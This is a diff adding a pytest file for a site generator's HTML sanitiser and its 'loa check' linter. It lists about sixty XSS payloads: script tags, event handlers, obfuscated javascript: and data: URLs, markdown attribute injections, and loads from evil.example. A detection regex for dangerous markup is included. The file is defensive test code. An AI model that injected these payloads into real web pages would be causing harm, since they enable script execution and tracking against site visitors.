@@ -1,0 +1,151 @@
+"""Hostile input: the render-time sanitiser neutralises it, `loa check` names it, real content passes untouched."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+
+import markdown
+import pytest
+import yaml
+from conftest import ROOT, MakeSite
+
+from loa.pipeline import check_site
+from loa.safety import page_problems, sanitize_html
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"x\" ONERROR=\"alert(1)\">",
+    "<img src=x onerror\n=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><script>alert(1)</script></mtext></math>",
+    "<body onload=alert(1)>",
+    "<iframe src=\"https://evil.example\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=\"x.swf\"></object>",
+    "<embed src=\"x.swf\">",
+    "<form action=\"https://evil.example\"><input name=p></form>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+    "<base href=\"https://evil.example/\">",
+    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
+    "<style>@import url(https://evil.example/x.css);</style>",
+    "<style>body{background:url(https://evil.example/x.png)}</style>",
+    "<div style=\"background:url(javascript:alert(1))\">x</div>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+    "<a href=\" javascript:alert(1)\">x</a>",
+    "<a href=\"java&#115;cript:alert(1)\">x</a>",
+    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
+    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
+    "<a href=\"java\tscript:alert(1)\">x</a>",
+    "<a href=\"vbscript:msgbox(1)\">x</a>",
+    "<a href=\"VBScript:msgbox(1)\">x</a>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+    "<a href=\"DATA:text/html,<script>alert(1)</script>\">x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JAVASCRIPT:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](vbscript:msgbox)",
+    "[x]: javascript:alert(1)\n\n[y][x]",
+    "![x](https://evil.example/track.png)",
+    "![x](//evil.example/track.png)",
+    "<img src=\"//evil.example/t.png\">",
+    "<img src=\"https://evil.example/t.png\" alt=\"t\">",
+    "[x](#){: onclick=\"alert(1)\" }",
+    "Đoạn văn.\n{: onmouseover=\"alert(1)\" }",
+    "# Tiêu đề {: onclick=\"alert(1)\" }",
+    "[x](https://ok.example){: style=\"background:url(javascript:alert(1))\" }",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=\"alert(1)\"></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<button formaction=\"javascript:alert(1)\">x</button>",
+    "<a href=\"#\" onclick=\"alert(1)\">x</a>",
+    "<div onpointerenter=\"alert(1)\">x</div>",
+    "<!--<script>alert(1)</script>-->",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    "<template><script>alert(1)</script></template>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<a href=\"https://ok.example\" target=\"_blank\">ngoài</a>",
+    "<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
+]
+EXTENSIONS = ["abbr", "attr_list", "md_in_html", "def_list", "tables", "admonition", "footnotes", "toc"]
+DANGER = re.compile(r"<\s*(script|iframe|object|embed|form|meta|base|link|style|svg|math|input|textarea)\b"
+                    r"|\son[a-z]+\s*=|(?:href|src|action|formaction)\s*=\s*[\"']?\s*(?:javascript|vbscript|data):", re.I)
+
+
+def test_there_are_at_least_fifty_payloads() -> None:
+    assert len(set(PAYLOADS)) >= 50
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_sanitiser_neutralises_payload(payload: str) -> None:
+    rendered = markdown.markdown(payload, extensions=EXTENSIONS)
+    clean = sanitize_html(rendered)
+    assert not DANGER.search(clean), clean
+    assert page_problems(clean) == [], clean
+    assert "evil.example" not in re.sub(r'<a href="[^"]*"', "", clean)  # only plain links may name another host
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_check_never_raises_and_flags_script_like_payloads(make_site: MakeSite, payload: str) -> None:
+    qa = (ROOT / "content" / "hoi-dap" / "tong-dai-1022-giai-dap-gi.md").read_text(encoding="utf-8")
+    front = qa.split("---\n", 2)[1].replace("id: tong-dai-1022-giai-dap-gi", "id: x")
+    report = check_site(make_site({"hoi-dap/x.md": f"---\n{front}---\n\n{payload}\n"}, base=None))
+    codes = {d.code for d in report.errors}
+    if re.search(r"<\s*(script|iframe|object|embed|form|style|meta|base|link|svg|math)\b|\son[a-z]+\s*=|(java|vb)script:"
+                 r"|data:", payload, re.I):
+        assert codes & {"L213", "L214"}, (payload, codes)
+
+
+@pytest.mark.parametrize("field", ["title", "reviewed_note"])
+def test_html_in_front_matter_is_an_error(make_site: MakeSite, field: str) -> None:
+    qa = (ROOT / "content" / "hoi-dap" / "tong-dai-1022-giai-dap-gi.md").read_text(encoding="utf-8")
+    front = yaml.safe_load(qa.split("---\n")[1])
+    front["id"] = "x"
+    front[field] = '<img src=x onerror="alert(1)">'
+    body = qa.split("---\n", 2)[2]
+    report = check_site(make_site({"hoi-dap/x.md": "---\n" + yaml.safe_dump(front, allow_unicode=True) + "---\n" + body}))
+    expected = "L213" if field == "title" else "L201"  # an unknown field is refused before its value matters
+    assert any(d.code == expected and d.field == field for d in report.errors), report.format()
+
+
+class _Shape(HTMLParser):
+    """The parts of a page a reader relies on: text, links, images, ids."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.items: list[tuple[str, ...]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        a = dict(attrs)
+        for key in ("href", "src", "id"):
+            if a.get(key):
+                self.items.append((tag, key, a[key] or ""))
+
+    def handle_data(self, data: str) -> None:
+        if data.strip():
+            self.items.append(("text", " ".join(data.split())))
+
+
+def shape(html: str) -> list[tuple[str, ...]]:
+    parser = _Shape()
+    parser.feed(html)
+    return parser.items
+
+
+def test_real_content_passes_the_sanitiser_unchanged(built: Path) -> None:
+    """No false alarms: on every real page the sanitiser keeps every text, link, image and anchor."""
+    pages = list((built / "site").rglob("index.html"))
+    assert len(pages) > 30
+    for page in pages:
+        html = page.read_text(encoding="utf-8")
+        article = html[html.index("<article"): html.index("</article>")]
+        kept = sanitize_html(article, allow_forms=True)
+        assert shape(kept) == shape(re.sub(r"<(script|style)\b.*?</\1>", "", article, flags=re.S)), page
+        assert page_problems(html) == [], page
